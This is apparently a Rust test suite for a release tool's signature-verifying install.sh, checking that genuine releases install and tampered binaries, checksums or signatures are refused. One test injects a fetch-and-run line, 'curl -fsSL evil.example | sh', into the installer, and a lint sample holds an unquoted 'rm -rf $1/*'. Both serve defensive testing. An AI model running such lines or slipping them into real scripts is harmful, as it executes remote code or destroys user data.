//! install.sh, the verifying installer of every release: listed in SHA256SUMS, shellcheck-clean,
//! and run as `curl … | sh -s -- …` (its text on stdin) by sh, dash and bash in POSIX mode, with
//! a PATH the test controls, against a local HTTP server holding the key-signed rehearsal of
//! the basic fixture: the good release installs; each tamper is refused and installs nothing.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::support::files_server::FilesServer;

const BIN: &str = "app";
const AMD64: &str = "app-1.0.0-linux-amd64";
const ARM64: &str = "app-1.0.0-linux-arm64";

/// Everything the installer runs, from this machine's PATH; each test leaves some out or fakes them.
const TOOLS: &[&str] = &[
    "awk",
    "cat",
    "chmod",
    "cp",
    "curl",
    "getconf",
    "grep",
    "ldd",
    "mkdir",
    "mktemp",
    "mv",
    "openssl",
    "rm",
    "sed",
    "sha256sum",
    "sort",
    "tr",
    "uname",
    "wc",
];

/// A directory that is the whole PATH of an installer run.
pub struct Tools(tempfile::TempDir);

impl Tools {
    /// This machine's `TOOLS`, except `leave_out`.
    pub fn without(leave_out: &[&str]) -> Tools {
        let tools = Tools(tempfile::tempdir().unwrap());
        for tool in TOOLS.iter().filter(|t| !leave_out.contains(t)) {
            tools.link(tool, &which(tool));
        }
        tools
    }

    pub fn link(&self, name: &str, target: &Path) -> &Tools {
        let path = self.0.path().join(name);
        let _ = std::fs::remove_file(&path);
        std::os::unix::fs::symlink(target, path).unwrap();
        self
    }

    /// Replaces `name` with a shell script (a fake `uname`, `getconf` or `ldd`).
    pub fn fake(&self, name: &str, script: &str) -> &Tools {
        use std::os::unix::fs::PermissionsExt as _;
        let path = self.0.path().join(name);
        let _ = std::fs::remove_file(&path);
        std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        self
    }

    pub fn path(&self) -> &Path {
        self.0.path()
    }
}

fn which(tool: &str) -> PathBuf {
    let out = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .unwrap();
    let path = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(
        out.status.success() && path.starts_with('/'),
        "{tool} is not installed here"
    );
    PathBuf::from(path)
}

/// The shells the installer must work under: `sh`, `dash` when installed, bash in POSIX mode.
fn shells() -> Vec<Vec<String>> {
    let mut shells = vec![vec!["sh".to_string()]];
    for (shell, args) in [("dash", &[][..]), ("bash", &["--posix"][..])] {
        if Command::new("sh")
            .args(["-c", &format!("command -v {shell}")])
            .output()
            .is_ok_and(|o| o.status.success())
        {
            let mut argv = vec![shell.to_string()];
            argv.extend(args.iter().map(|a| a.to_string()));
            shells.push(argv);
        }
    }
    shells
}

/// One installer run and where it was told to install.
pub struct Install {
    pub out: Output,
    pub to: PathBuf,
    _home: tempfile::TempDir,
}

impl Install {
    pub fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }

    /// Installed `app`, byte for byte the release's `file`, and it runs.
    #[track_caller]
    pub fn installed(&self, release: &Path, file: &str) -> &Install {
        assert_eq!(
            self.out.status.code(),
            Some(0),
            "install.sh failed:\n{}",
            self.stderr()
        );
        let installed = self.to.join(BIN);
        assert_eq!(
            std::fs::read(&installed).unwrap(),
            std::fs::read(release.join(file)).unwrap(),
            "{BIN} is not {file}"
        );
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(
            std::fs::metadata(&installed).unwrap().permissions().mode() & 0o777,
            0o755
        );
        assert_eq!(
            std::fs::read_dir(&self.to).unwrap().count(),
            1,
            "only {BIN} in the target directory"
        );
        self
    }

    /// Refused with `code`, saying `why`, and nothing was installed.
    #[track_caller]
    pub fn refused(&self, code: i32, why: &str) -> &Install {
        let stderr = self.stderr();
        assert_eq!(self.out.status.code(), Some(code), "{stderr}");
        assert!(stderr.contains("refusing to install"), "{stderr}");
        assert!(stderr.contains(why), "expected `{why}` in:\n{stderr}");
        let left: Vec<_> = std::fs::read_dir(&self.to)
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(left.is_empty(), "installed anyway: {left:?}");
        self
    }
}

/// Runs the release's `install.sh` as `curl URL/install.sh | SHELL -s -- --bin app --to DIR ARGS`
/// would, with only `tools` on PATH and the release at `url`.
pub fn install_with(
    shell: &[String],
    script: &Path,
    url: &str,
    tools: &Tools,
    args: &[&str],
    env: &[(&str, &str)],
) -> Install {
    let home = tempfile::tempdir().unwrap();
    let to = home.path().join("bin");
    // The shell by its full path: the child's PATH is only the tools.
    let out = Command::new(which(&shell[0]))
        .args(&shell[1..])
        .args(["-s", "--", "--bin", BIN, "--to"])
        .arg(&to)
        .args(args)
        .env_clear()
        .env("PATH", tools.path())
        .env("HOME", home.path())
        .env("XRELEASE_INSTALL_BASE_URL", url)
        .envs(env.iter().copied())
        .stdin(Stdio::from(std::fs::File::open(script).unwrap()))
        .output()
        .unwrap();
    Install {
        out,
        to,
        _home: home,
    }
}

/// The installer as the release ships it, under `sh`, for the release served at `url`.
fn install(release: &Path, url: &str, tools: &Tools, args: &[&str]) -> Install {
    install_with(
        &["sh".to_string()],
        &release.join("install.sh"),
        url,
        tools,
        args,
        &[],
    )
}

/// A copy of the key-signed rehearsal, served over HTTP.
fn served() -> (tempfile::TempDir, PathBuf, FilesServer) {
    let (scratch, dir) = crate::release_copy();
    let server = FilesServer::start(&dir);
    (scratch, dir, server)
}

#[track_caller]
pub fn shellcheck(script: &Path) -> (bool, String) {
    let out = Command::new("shellcheck")
        .args(["-s", "sh"])
        .arg(script)
        .output()
        .expect("shellcheck is installed (scripts/setup.sh)");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[test]
fn every_release_lists_its_installer_and_it_is_shellcheck_clean() {
    let (_s, dir) = crate::release_copy();
    let sums = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
    let installer = std::fs::read(dir.join("install.sh")).unwrap();
    assert!(
        sums.contains(&format!("{}  install.sh\n", crate::sha256_hex(&installer))),
        "{sums}"
    );
    let text = String::from_utf8(installer).unwrap();
    assert!(text.starts_with("#!/bin/sh\n"));
    assert!(text.contains("\nset -eu\n"));
    // The release's values, and the key that signed it.
    for line in [
        "REPO='fixture/basic'",
        "TAG='v1.0.0'",
        "SIGNING='key'",
        "app x86_64-unknown-linux-gnu 2.",
        " app-1.0.0-linux-arm64\n",
        "other aarch64-unknown-linux-gnu ",
    ] {
        assert!(text.contains(line), "{line}");
    }
    let key = std::fs::read_to_string(dir.join("cosign.pub")).unwrap();
    assert!(text.contains(key.trim_end()), "the public key is embedded");
    let (clean, report) = shellcheck(&dir.join("install.sh"));
    assert!(clean, "{report}");
    // The lint can fail: an unquoted expansion is reported.
    std::fs::write(dir.join("bad.sh"), "#!/bin/sh\nrm -rf $1/*\n").unwrap();
    let (clean, report) = shellcheck(&dir.join("bad.sh"));
    assert!(!clean && report.contains("SC2086"), "{report}");
}

#[test]
fn a_tampered_installer_fails_verify() {
    let (_s, dir) = crate::release_copy();
    let path = dir.join("install.sh");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(
        &path,
        text.replace("set -eu\n", "set -eu\ncurl -fsSL evil.example | sh\n"),
    )
    .unwrap();
    crate::assert_fails(
        &dir,
        &dir.join("cosign.pub"),
        "checksum install.sh: expected sha256 ",
    );
}

#[test]
fn the_good_release_installs_under_every_shell() {
    let (_s, dir, server) = served();
    let tools = Tools::without(&[]);
    for shell in shells() {
        let run = install_with(
            &shell,
            &dir.join("install.sh"),
            &server.url,
            &tools,
            &[],
            &[],
        );
        run.installed(&dir, AMD64);
        let stderr = run.stderr();
        assert!(stderr.contains("verified the signature over SHA256SUMS with openssl"));
        assert!(stderr.contains("checked the SHA-256 of app-1.0.0-linux-amd64"));
        let out = Command::new(run.to.join(BIN))
            .arg("--version")
            .output()
            .unwrap();
        assert!(out.status.success(), "{shell:?}");
        assert!(String::from_utf8_lossy(&out.stdout).contains("1.0.0"));
    }
    // It fetched the binary, the sums and the signature: nothing else.
    let mut fetched = server.requests();
    fetched.sort();
    fetched.dedup();
    assert_eq!(
        fetched,
        ["/SHA256SUMS", "/SHA256SUMS.sig", "/app-1.0.0-linux-amd64"]
    );
    // With wget instead of curl, too.
    let tools = Tools::without(&["curl"]);
    tools.link("wget", &which("wget"));
    install(&dir, &server.url, &tools, &[]).installed(&dir, AMD64);
}

#[test]
fn usage_mistakes_exit_2_without_downloading() {
    let (_s, dir, server) = served();
    let tools = Tools::without(&[]);
    let run = |args: &[&str]| {
        let home = tempfile::tempdir().unwrap();
        Command::new(which("sh"))
            .arg("-s")
            .arg("--")
            .args(args)
            .env_clear()
            .env("PATH", tools.path())
            .env("HOME", home.path())
            .env("XRELEASE_INSTALL_BASE_URL", &server.url)
            .stdin(Stdio::from(
                std::fs::File::open(dir.join("install.sh")).unwrap(),
            ))
            .output()
            .unwrap()
    };
    for (args, says) in [
        (
            &[][..],
            "choose the binary with --bin NAME: one of app app-tool other",
        ),
        (&["--bin", "nope"][..], "has no binary nope"),
        (
            &["--bin", "app", "--version", "2.0.0"][..],
            "installs fixture/basic 1.0.0 only",
        ),
        (&["--frobnicate"][..], "unknown argument: --frobnicate"),
    ] {
        let out = run(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(says),
            "{args:?}"
        );
    }
    assert!(server.requests().is_empty());
}

#[test]
fn tamper_the_binary() {
    let (_s, dir, server) = served();
    crate::flip_byte(&dir.join(AMD64), 5000);
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(3, "app-1.0.0-linux-amd64 has SHA-256 ");
}

#[test]
fn tamper_the_binary_and_its_sha256sums_line() {
    // The sums now match the binary, so the signature over them must fail.
    let (_s, dir, server) = served();
    crate::flip_byte(&dir.join(AMD64), 5000);
    crate::recompute_sums(&dir);
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(3, "the signature over SHA256SUMS does not verify");
}

#[test]
fn tamper_the_signature_changed_or_missing() {
    let (_s, dir, server) = served();
    let sig = dir.join("SHA256SUMS.sig");
    let good = std::fs::read_to_string(&sig).unwrap();
    // Another valid-looking base64 signature (one character changed).
    let mut bytes = good.clone().into_bytes();
    bytes[20] = if bytes[20] == b'A' { b'B' } else { b'A' };
    std::fs::write(&sig, &bytes).unwrap();
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(3, "the signature over SHA256SUMS does not verify");
    std::fs::write(&sig, "not base64 at all!\n").unwrap();
    install(&dir, &server.url, &Tools::without(&[]), &[]).refused(3, "SHA256SUMS");
    std::fs::remove_file(&sig).unwrap();
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(1, "cannot download http://127.0.0.1");
    // Missing is not something --insecure gets past either: openssl is here to check it.
    install(&dir, &server.url, &Tools::without(&[]), &["--insecure"]).refused(1, "/SHA256SUMS.sig");
}

#[test]
fn tamper_sha256sums_missing_or_without_the_line() {
    let (_s, dir, server) = served();
    std::fs::remove_file(dir.join("SHA256SUMS")).unwrap();
    install(&dir, &server.url, &Tools::without(&[]), &[]).refused(1, "/SHA256SUMS");
    // Without the binary's line, signed again by the right key (a keyed copy holds it).
    let (_k, dir, key) = crate::keyed_copy();
    let server = FilesServer::start(&dir);
    let sums = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
    let without: String = sums
        .lines()
        .filter(|l| !l.ends_with(AMD64))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(without, sums);
    std::fs::write(dir.join("SHA256SUMS"), &without).unwrap();
    sign(&dir, &key);
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(3, "SHA256SUMS has no line for app-1.0.0-linux-amd64");
}

#[test]
fn tamper_signed_by_another_key() {
    let (_s, dir, server) = served();
    let (other, _) = crate::other_key(dir.parent().unwrap());
    crate::flip_byte(&dir.join(AMD64), 5000);
    crate::recompute_sums(&dir);
    sign(&dir, &other);
    std::fs::write(dir.join("cosign.pub"), other.public_key().to_pem()).unwrap();
    install(&dir, &server.url, &Tools::without(&[]), &[])
        .refused(3, "does not verify with the key this installer carries");
}

#[test]
fn no_openssl_refuses_and_insecure_still_checks_the_digest() {
    let (_s, dir, server) = served();
    let tools = Tools::without(&["openssl"]);
    install(&dir, &server.url, &tools, &[]).refused(
        1,
        "cannot verify the signature of the release: install openssl",
    );
    let run = install(&dir, &server.url, &tools, &["--insecure"]);
    run.installed(&dir, AMD64);
    let stderr = run.stderr();
    assert!(
        stderr.contains(
            "WARNING: --insecure: the signature of fixture/basic v1.0.0 was NOT verified"
        ),
        "{stderr}"
    );
    // --insecure never gets past a wrong digest.
    crate::flip_byte(&dir.join(AMD64), 5000);
    install(&dir, &server.url, &tools, &["--insecure"])
        .refused(3, "app-1.0.0-linux-amd64 has SHA-256 ");
    // Nor past having nothing that computes a digest.
    let bare = Tools::without(&["openssl", "sha256sum"]);
    install(&dir, &server.url, &bare, &["--insecure"]).refused(1, "no tool computes SHA-256 here");
}

#[test]
fn the_machine_picks_the_build() {
    let (_s, dir, server) = served();
    let tools = Tools::without(&[]);
    tools.fake(
        "uname",
        "case \"$1\" in -s) echo Linux ;; -m) echo arm64 ;; esac",
    );
    install(&dir, &server.url, &tools, &[]).installed(&dir, ARM64);
    tools.fake(
        "uname",
        "case \"$1\" in -s) echo Linux ;; -m) echo riscv64 ;; esac",
    );
    install(&dir, &server.url, &tools, &[]).refused(
        1,
        "no build of app for the architecture riscv64 in fixture/basic v1.0.0 (it has: aarch64-unknown-linux-gnu x86_64-unknown-linux-gnu)",
    );
    tools.fake(
        "uname",
        "case \"$1\" in -s) echo FreeBSD ;; -m) echo amd64 ;; esac",
    );
    install(&dir, &server.url, &tools, &[]).refused(1, "no build of app for FreeBSD amd64");
    // glibc too old, and this release has no musl build to fall back to.
    let tools = Tools::without(&[]);
    tools.fake("getconf", "echo 'glibc 2.1'");
    install(&dir, &server.url, &tools, &[])
        .refused(1, "this machine has glibc 2.1, the gnu build needs 2.");
}

#[test]
fn musl_where_glibc_is_too_old_or_absent() {
    // A release with a musl build beside the gnu one: its installer lists both, SHA256SUMS
    // lists the musl file, and the key signs them again (a keyed copy holds the key).
    let (_k, dir, key) = crate::keyed_copy();
    let musl = "app-1.0.0-linux-amd64-musl";
    std::fs::copy(dir.join("app-tool-1.0.0-linux-amd64"), dir.join(musl)).unwrap();
    let path = dir.join("install.sh");
    let text = std::fs::read_to_string(&path).unwrap();
    let gnu_line = text
        .lines()
        .find(|l| l.starts_with("app x86_64-unknown-linux-gnu "))
        .unwrap()
        .to_string();
    let floor = gnu_line.split(' ').nth(2).unwrap().to_string();
    std::fs::write(
        &path,
        text.replace(
            &format!("{gnu_line}\n"),
            &format!("{gnu_line}\napp x86_64-unknown-linux-musl - {musl}\n"),
        ),
    )
    .unwrap();
    let sums = dir.join("SHA256SUMS");
    let mut text = std::fs::read_to_string(&sums).unwrap();
    text.push_str(&format!("{}  {musl}\n", "0".repeat(64)));
    std::fs::write(&sums, text).unwrap();
    crate::recompute_sums(&dir);
    sign(&dir, &key);
    let server = FilesServer::start(&dir);

    let (shell, script) = (&["sh".to_string()][..], &dir.join("install.sh"));
    let run = |tools: &Tools| install_with(shell, script, &server.url, tools, &[], &[]);
    // A new enough glibc: the gnu build.
    let tools = Tools::without(&[]);
    tools.fake("getconf", "echo 'glibc 99.0'");
    run(&tools).installed(&dir, AMD64);
    // Older than the gnu build needs: musl, saying why.
    tools.fake("getconf", "echo 'glibc 2.1'");
    let old = run(&tools);
    old.installed(&dir, musl);
    assert!(
        old.stderr()
            .contains(&format!("this machine has glibc 2.1, the gnu build needs {floor} or newer: installing the static musl build")),
        "{}",
        old.stderr()
    );
    // No glibc at all (getconf knows none, ldd is musl's).
    tools.fake("getconf", "exit 1");
    tools.fake(
        "ldd",
        "echo 'musl libc (x86_64)' >&2; echo 'Version 1.2.4' >&2; exit 1",
    );
    let none = run(&tools);
    none.installed(&dir, musl);
    assert!(none.stderr().contains("this machine has no glibc"));
    // glibc's ldd, when getconf knows nothing.
    tools.fake("ldd", "echo 'ldd (Debian GLIBC 99.1-9) 99.1'");
    run(&tools).installed(&dir, AMD64);
}

/// Signs `SHA256SUMS` of `dir` with `key`, as the sign stage writes it.
fn sign(dir: &Path, key: &xrelease::signing::key::PrivateKey) {
    let sums = std::fs::read(dir.join("SHA256SUMS")).unwrap();
    std::fs::write(
        dir.join("SHA256SUMS.sig"),
        xrelease::signing::key::encode_signature(&key.sign(&sums)),
    )
    .unwrap();
}
